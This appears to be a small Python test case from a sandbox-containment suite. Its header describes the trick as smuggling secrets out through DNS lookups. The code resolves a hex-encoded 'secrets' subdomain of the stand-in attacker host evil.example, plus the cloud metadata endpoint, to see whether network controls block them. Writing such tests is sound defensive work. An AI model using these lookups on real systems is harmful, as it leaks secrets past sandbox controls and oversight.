# /// escape
# promise = "S1"
# trick = "It carries secrets out in the names that it looks up"
# control = { local = ["network"], docker = ["network"] }
# needs = ["listeners"]
# breaks = ["listeners"]
# gets = 3
# ///
import socket

from inside import attempt

for name in ("73656372657473.evil.example", "metadata.google.internal", "packages.example"):
    attempt(name, lambda name=name: socket.getaddrinfo(name, 80)[0][4])
